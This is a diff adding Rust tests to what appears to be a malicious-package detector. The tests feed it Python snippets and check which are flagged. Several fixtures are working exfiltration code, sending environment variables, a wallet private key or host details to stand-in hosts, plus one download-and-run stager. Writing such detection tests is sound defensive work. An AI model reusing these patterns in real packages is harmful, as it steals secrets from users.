@@ -498,3 +498,189 @@ process = run_hidden_command(CMD)
     let f = run("runner/runner.py", FileRole::Module, &benign);
     assert!(!critical(&f).contains(&"download-exec"), "{f:#?}");
 }
+
+// ── flows across functions: helpers written below their caller, URLs handed to a
+//    sender, secrets named by role, beacons in a module nobody imports by name ──
+
+#[test]
+fn helpers_defined_below_the_collector_still_carry_the_environment() {
+    // `main()` is written first and calls helpers defined below it: their return labels
+    // must reach the send (the first walk of the file cannot know them yet)
+    let src = r#"
+import os, json, urllib.request
+
+def main():
+    hook = "https://collector.invalid.example/in"
+    data = {}
+    data["env"] = grab_env()
+    push(hook, data)
+
+def grab_env():
+    return dict(os.environ)
+
+def push(url, payload):
+    req = urllib.request.Request(url, data=json.dumps(payload).encode(), method="POST")
+    urllib.request.urlopen(req, timeout=1)
+
+if __name__ == "__main__":
+    main()
+"#;
+    let f = run("pkg/cli.py", FileRole::Module, src);
+    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
+}
+
+#[test]
+fn helpers_defined_below_returning_config_are_not_critical() {
+    // the same shape with a configuration value and a URL the caller is given: a CLI
+    // that reports its own settings to the server the user named
+    let src = r#"
+import json, urllib.request
+
+def main(server):
+    data = {}
+    data["settings"] = load_settings()
+    push(server, data)
+
+def load_settings():
+    with open("settings.json") as f:
+        return json.load(f)
+
+def push(url, payload):
+    req = urllib.request.Request(url, data=json.dumps(payload).encode(), method="POST")
+    urllib.request.urlopen(req, timeout=1)
+"#;
+    let f = run("pkg/cli.py", FileRole::Module, src);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+#[test]
+fn data_posted_to_a_url_decoded_before_the_helper_call_is_critical() {
+    // the helper's URL is a parameter; the caller hands it an address it decodes
+    let src = r#"
+import base64
+from requests import post
+
+def unlock(payload):
+    def send(dest, blob):
+        post(dest, data={"license": base64.b64encode(blob.encode()).decode()})
+    hidden = "aHR0cDovLzEyNy4wLjAuMTo5L2NhbmFyeQ=="
+    send(base64.b64decode(hidden.encode()).decode(), payload)
+"#;
+    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
+    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
+}
+
+#[test]
+fn helper_posting_to_a_plain_configured_url_is_not_critical() {
+    let src = r#"
+from requests import post
+
+def unlock(payload, endpoint):
+    def send(dest, blob):
+        post(dest, data={"license": blob})
+    send(endpoint, payload)
+"#;
+    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+#[test]
+fn wallet_key_named_by_its_role_posted_to_fixed_host_is_critical() {
+    let src = r#"
+import base64, requests
+
+ENDPOINT = "http://validate.invalid:8000/api/v1/validate"
+
+def validate(from_private_key, rpc_url):
+    payload = {"signature": base64.b64encode(from_private_key.encode()).decode("utf-8")}
+    requests.post(ENDPOINT, json=payload)
+"#;
+    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
+    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
+}
+
+#[test]
+fn tls_private_key_uploaded_to_its_service_is_not_critical() {
+    // a CDN client uploading the certificate key the user gives it: not a wallet secret
+    let src = r#"
+import requests
+
+def upload_certificate(zone, certificate, ssl_private_key):
+    requests.post("https://api.cdn.example.com/zones/" + zone + "/certs",
+                  json={"certificate": certificate, "private_key": ssl_private_key})
+"#;
+    let f = run("pkg/__init__.py", FileRole::PackageInit, src);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+#[test]
+fn host_beacon_at_module_level_of_any_package_module_is_critical() {
+    // a module the package's `__init__` never imports still beacons whenever it is
+    // imported: top-level code needs no caller
+    let src = r#"
+import getpass, os, socket, requests
+requests.post("https://probe.invalid.example/pypi/", json={
+    "user": getpass.getuser(), "cwd": os.getcwd(), "hostname": socket.gethostname()})
+"#;
+    let f = run("pkg/__init__py.py", FileRole::Module, src);
+    assert!(critical(&f).contains(&"exfiltration"), "{f:#?}");
+}
+
+#[test]
+fn host_name_sent_by_a_function_at_runtime_is_not_critical() {
+    // a monitoring client reporting the host it runs on when asked to: a capability
+    let src = r#"
+import socket, requests
+
+def register(api="https://monitor.example.com/agents"):
+    return requests.post(api, json={"hostname": socket.gethostname()})
+"#;
+    let f = run("pkg/agent.py", FileRole::Module, src);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+#[test]
+fn plugin_manager_pip_installing_what_it_fetched_at_runtime_is_not_critical() {
+    // the download's helper is defined below its caller, so only the second walk sees
+    // that `fetch()` returns a downloaded path: `python -m pip install` hands it to pip
+    let src = r#"
+import os, subprocess, sys, tempfile
+
+def install_extensions(index):
+    tmp = tempfile.mkdtemp()
+    for name, url in index:
+        wheel = fetch(url, name, tmp)
+        subprocess.check_call([sys.executable, "-m", "pip", "install", "--target", tmp, wheel])
+
+def fetch(url, name, tmp):
+    import requests
+    r = requests.get(url, stream=True)
+    path = os.path.join(tmp, name)
+    with open(path, "wb") as f:
+        for chunk in r.iter_content(1024):
+            f.write(chunk)
+    return path
+"#;
+    let f = run("pkg/ext.py", FileRole::Module, src);
+    assert!(critical(&f).is_empty(), "{f:#?}");
+}
+
+#[test]
+fn downloaded_script_run_by_python_below_its_caller_is_critical() {
+    let src = r#"
+import os, subprocess, sys, tempfile
+
+def start():
+    script = fetch("http://127.0.0.1:9/stage.py")
+    subprocess.Popen([sys.executable, script])
+
+def fetch(url):
+    import requests
+    path = os.path.join(tempfile.gettempdir(), "stage.py")
+    with open(path, "wb") as f:
+        f.write(requests.get(url).content)
+    return path
+"#;
+    let f = run("pkg/run.py", FileRole::Module, src);
+    assert!(critical(&f).contains(&"download-exec"), "{f:#?}");
+}
